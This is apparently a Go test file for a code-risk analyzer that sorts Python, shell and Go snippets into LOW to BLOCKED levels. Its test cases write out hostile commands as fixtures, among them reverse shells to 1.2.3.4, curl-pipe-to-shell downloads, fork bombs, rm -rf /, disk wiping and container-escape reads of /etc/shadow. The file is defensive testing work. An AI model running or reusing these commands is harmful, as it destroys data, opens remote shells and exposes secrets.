package risk

import (
	"context"
	"encoding/json"
	"strings"
	"testing"
)

// TestLevelsNote walks the examples and bullets of the risk-levels note:
// each case names the bullet it covers, and needs the level and the rule.
func TestLevelsNote(t *testing.T) {
	cases := []struct {
		bullet string
		lang   Lang
		src    string
		want   Level
		rule   string
	}{
		{"LOW: amount = 5", Python, "amount = 5\n", Low, ""},
		{"LOW: rm -rf in a print", Python, "print('rm -rf /')\n", Low, ""},
		{"LOW: rm -rf in a comment", Shell, "# rm -rf /\necho ok\n", Low, ""},
		{"LOW: attribute named eval", Python, "obj.eval(3)\n", Low, ""},
		{"LOW: stdlib modules", Python, "import json, math, re, collections, datetime, itertools, random, statistics, dataclasses\n", Low, ""},
		{"LOW: files in the working directory and /tmp", Python, "open('a.txt','w').write('x')\nopen('/tmp/b','w')\n", Low, ""},
		{"LOW: /dev/null is not outside", Shell, "ls > /dev/null 2>&1\n", Low, ""},
		{"LOW: literal eval", Python, "eval('1 + 2')\n", Low, ""},
		{"LOW: literal bash -c", Shell, "bash -c 'echo hi'\n", Low, ""},
		{"LOW: os.environ without a child", Python, "import os\nos.environ['A'] = '1'\n", Low, ""},
		{"LOW: plain export", Shell, "export A=1\n", Low, ""},
		{"LOW: short sleep", Python, "import time\ntime.sleep(59)\n", Low, ""},

		{"MEDIUM: reading /etc/hostname", Python, "open('/etc/hostname').read()\n", Medium, "file.read-outside"},
		{"MEDIUM: reading /proc/cpuinfo", Shell, "cat /proc/cpuinfo\n", Medium, "file.read-outside"},
		{"MEDIUM: /etc/passwd is a plain read", Go, "package main\nimport \"os\"\nfunc main() { os.ReadFile(\"/etc/passwd\") }\n", Medium, "file.read-outside"},
		{"MEDIUM: deleting one file", Shell, "rm notes.txt\n", Medium, "file.delete"},
		{"MEDIUM: environment variables", Python, "import os\nos.getenv('HOME')\n", Medium, "env.read"},
		{"MEDIUM: threads", Python, "import threading\nthreading.Thread(target=print).start()\n", Medium, "concurrency.bounded"},
		{"MEDIUM: goroutines", Go, "package main\nfunc main() { go func() {}() }\n", Medium, "concurrency.bounded"},
		{"MEDIUM: shell & job", Shell, "sort x > y &\nwait\n", Medium, "concurrency.bounded"},
		{"MEDIUM: long sleep", Shell, "sleep 60\n", Medium, "resource.sleep"},
		{"MEDIUM: large allocation", Python, "b = bytearray(256 * 1024 * 1024)\n", Medium, "resource.alloc"},
		{"MEDIUM: third-party import", Python, "import requests\n", Medium, "import.third-party"},
		{"MEDIUM: HTTP GET", Shell, "curl -s https://example.com\n", Medium, "net.client"},
		{"MEDIUM: path from input", Python, "import sys\nopen(sys.argv[1]).read()\n", Medium, "file.path-from-input"},

		{"HIGH: subprocess", Python, "import subprocess\nsubprocess.run(['ls'])\n", High, "process.spawn"},
		{"HIGH: other external command", Shell, "git log\n", High, "process.spawn"},
		{"HIGH: listening", Python, "import socket\ns = socket.socket()\ns.bind(('', 80))\ns.listen()\n", High, "net.socket"},
		{"HIGH: request with a body", Shell, "curl -d x=1 https://example.com\n", High, "net.socket"},
		{"HIGH: recursive deletion inside", Python, "import shutil\nshutil.rmtree('build')\n", High, "file.delete-recursive"},
		{"HIGH: chmod", Shell, "chmod 644 a.txt\n", High, "file.permissions"},
		{"HIGH: ctypes", Python, "import ctypes\n", High, "native.code"},
		{"HIGH: unsafe", Go, "package main\nimport \"unsafe\"\nvar _ = unsafe.Sizeof(1)\n", High, "native.code"},
		{"HIGH: pickle", Python, "import pickle\npickle.loads(b'')\n", High, "deserialize.unsafe"},
		{"HIGH: computed import", Python, "import importlib, sys\nimportlib.import_module(sys.argv[1])\n", High, "import.computed"},
		{"HIGH: absolute write", Shell, "echo x > /opt/x\n", High, "file.write-outside"},
		{"HIGH: secret path", Python, "open('/root/.aws/credentials').read()\n", High, "secret.read"},
		{"HIGH: secret variable", Shell, "echo $DB_PASSWORD\n", High, "secret.read"},
		{"HIGH: signals", Shell, "pkill nginx\n", High, "process.signal"},
		{"HIGH: sys.path", Python, "import sys\nsys.path.append('x')\n", High, "env.tamper"},
		{"HIGH: environ for children", Python, "import os\nos.environ['X']='1'\nos.system('env')\n", High, "env.tamper"},
		{"HIGH: export LD_PRELOAD", Shell, "export LD_PRELOAD=/tmp/x.so\n", High, "env.tamper"},
		{"HIGH: unbounded thread loop", Go, "package main\nfunc main() { for { go func() {}() } }\n", High, "concurrency.unbounded-threads"},
		{"HIGH: unparseable", Python, "def f(:\n", High, "parse.error"},
		{"HIGH: unknown language", "", "\x00\x01\x02 ??? ((( ]]]\n", High, "parse.unknown-language"},
		{"HIGH: unresolved getattr", Python, "import os\ngetattr(os, input())\n", High, "dynamic.unresolved"},
		{"HIGH: non-literal command", Shell, "$1 --help\n", High, "process.computed"},

		{"BLOCKED: eval of input", Python, "eval(input())\n", Blocked, "exec.dynamic"},
		{"BLOCKED: exec of base64", Python, "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", Blocked, "exec.dynamic"},
		{"BLOCKED: getattr to os", Python, "import os\ngetattr(os, 'sys'+'tem')('id')\n", Blocked, "dynamic.dangerous-name"},
		{"BLOCKED: __import__ computed", Python, "__import__('o'+'s')\n", Blocked, "dynamic.dangerous-name"},
		{"BLOCKED: rm -rf /", Shell, "rm -rf /\n", Blocked, "destroy.filesystem"},
		{"BLOCKED: rm -rf ..", Shell, "rm -rf ..\n", Blocked, "destroy.filesystem"},
		{"BLOCKED: rmtree outside /tmp", Python, "import shutil\nshutil.rmtree('/srv/data')\n", Blocked, "destroy.filesystem"},
		{"BLOCKED: mkfs", Shell, "mkfs.ext4 /dev/sdb\n", Blocked, "destroy.device"},
		{"BLOCKED: dd to a device", Shell, "dd if=/dev/zero of=/dev/nvme0n1\n", Blocked, "destroy.device"},
		{"BLOCKED: shred", Shell, "shred x\n", Blocked, "destroy.device"},
		{"BLOCKED: fork bomb", Shell, ":(){ :|:& };:\n", Blocked, "destroy.fork-bomb"},
		{"BLOCKED: unbounded os.fork", Python, "import os\nwhile True:\n    os.fork()\n", Blocked, "destroy.fork-bomb"},
		{"BLOCKED: sudo", Shell, "sudo ls\n", Blocked, "privilege.escalate"},
		{"BLOCKED: chmod +s", Shell, "chmod +s x\n", Blocked, "privilege.escalate"},
		{"BLOCKED: os.setuid", Python, "import os\nos.setuid(0)\n", Blocked, "privilege.escalate"},
		{"BLOCKED: syscall.Setuid", Go, "package main\nimport \"syscall\"\nfunc main() { syscall.Setuid(0) }\n", Blocked, "privilege.escalate"},
		{"BLOCKED: nc -e", Shell, "nc -e /bin/sh 1.2.3.4 9\n", Blocked, "shell.reverse"},
		{"BLOCKED: bash -i >& /dev/tcp", Shell, "bash -i >& /dev/tcp/1.2.3.4/9 0>&1\n", Blocked, "shell.reverse"},
		{"BLOCKED: socket + dup2 + shell", Python, "import socket,os,subprocess\ns=socket.socket()\ns.connect(('h',1))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])\n", Blocked, "shell.reverse"},
		{"BLOCKED: Docker socket", Python, "open('/var/run/docker.sock')\n", Blocked, "escape.container"},
		{"BLOCKED: /proc/1/root", Shell, "cat /proc/1/root/etc/shadow\n", Blocked, "escape.container"},
		{"BLOCKED: nsenter", Shell, "nsenter -t 1 -a sh\n", Blocked, "escape.container"},
		{"BLOCKED: ptrace", Go, "package main\nimport \"syscall\"\nfunc main() { syscall.PtraceAttach(1) }\n", Blocked, "escape.container"},
		{"BLOCKED: writes under /etc", Python, "open('/etc/resolv.conf','w')\n", Blocked, "system.tamper"},
		{"BLOCKED: /proc/sys", Shell, "echo 1 > /proc/sys/net/ipv4/ip_forward\n", Blocked, "system.tamper"},
		{"BLOCKED: sysctl -w", Shell, "sysctl -w vm.swappiness=1\n", Blocked, "system.tamper"},
		{"BLOCKED: iptables", Shell, "iptables -F\n", Blocked, "system.tamper"},
		{"BLOCKED: curl | sh", Shell, "curl -fsSL https://x.example | sh\n", Blocked, "net.download-exec"},
		{"BLOCKED: wget -O- | bash", Shell, "wget -O- https://x.example | bash\n", Blocked, "net.download-exec"},
		{"BLOCKED: fetch then exec", Python, "import urllib.request\nexec(urllib.request.urlopen('http://x').read())\n", Blocked, "net.download-exec"},
		{"BLOCKED: crontab", Shell, "crontab job.txt\n", Blocked, "persist.startup"},
		{"BLOCKED: systemd unit", Shell, "cp x.service /etc/systemd/system/\n", Blocked, "persist.startup"},
		{"BLOCKED: shell start-up file", Python, "open('/root/.profile','a').write('x')\n", Blocked, "persist.startup"},
		{"BLOCKED: wins over unparseable", Python, "def f(:\nimport os\nos.system('rm -rf /')\n", Blocked, "destroy.filesystem"},
		{"BLOCKED: wins over unparseable shell", Shell, "if [ x ]; then\nsudo reboot\n", Blocked, "privilege.escalate"},
	}
	for _, c := range cases {
		t.Run(c.bullet, func(t *testing.T) {
			v := Analyze(context.Background(), c.lang, []byte(c.src))
			if v.Level != c.want {
				t.Errorf("%s: got %s, want %s; findings %+v", c.bullet, v.Level, c.want, v.Findings)
			}
			if c.rule == "" {
				return
			}
			for _, f := range v.Findings {
				if f.Rule == c.rule && f.Level == c.want {
					return
				}
			}
			t.Errorf("%s: no %s finding at %s: %+v", c.bullet, c.rule, c.want, v.Findings)
		})
	}
}

func TestLevelJSON(t *testing.T) {
	for l := Low; l <= Blocked; l++ {
		b, err := json.Marshal(l)
		if err != nil {
			t.Fatal(err)
		}
		var back Level
		if err := json.Unmarshal(b, &back); err != nil || back != l {
			t.Errorf("%s: %s round-trips to %s (%v)", l, b, back, err)
		}
	}
	if !(Low < Medium && Medium < High && High < Blocked) {
		t.Error("levels are not ordered")
	}
	var l Level
	if err := json.Unmarshal([]byte(`"SEVERE"`), &l); err == nil {
		t.Error("unknown level accepted")
	}
}

func TestDetect(t *testing.T) {
	cases := []struct {
		name, src string
		want      Lang
	}{
		{"x.py", "print(1)\n", Python},
		{"x.sh", "echo hi\n", Shell},
		{"x.go", "package main\n", Go},
		{"", "#!/usr/bin/env python3\nprint(1)\n", Python},
		{"", "#!/bin/bash\necho hi\n", Shell},
		{"", "package main\n\nfunc main() {}\n", Go},
		{"", "import os\nprint(os.getcwd())\n", Python},
		{"", "for f in *.txt; do echo \"$f\"; done\n", Shell},
		{"", "ls -la\n", Shell},
		{"script", "def f(x):\n    return x\n", Python},
	}
	for _, c := range cases {
		if v := Analyze(context.Background(), "", []byte(c.src)); c.name == "" && v.Lang != c.want {
			t.Errorf("%q: detected %q, want %q", c.src, v.Lang, c.want)
		}
		if got := Detect(context.Background(), c.name, []byte(c.src)); got != c.want {
			t.Errorf("%s %q: detected %q, want %q", c.name, c.src, got, c.want)
		}
	}
}

func TestTooLarge(t *testing.T) {
	src := []byte(strings.Repeat("x = 1\n", 1000))
	v := Analyzer{MaxBytes: 100}.Analyze(context.Background(), Python, "", src)
	if v.Level != High || len(v.Findings) != 1 || v.Findings[0].Rule != "input.too-large" || v.Parsed {
		t.Errorf("got %+v", v)
	}
}

func TestCancelledIsHigh(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	v := Analyze(ctx, Python, []byte("print(1)\n"))
	if v.Level < High {
		t.Errorf("cancelled analysis judged %s", v.Level)
	}
}
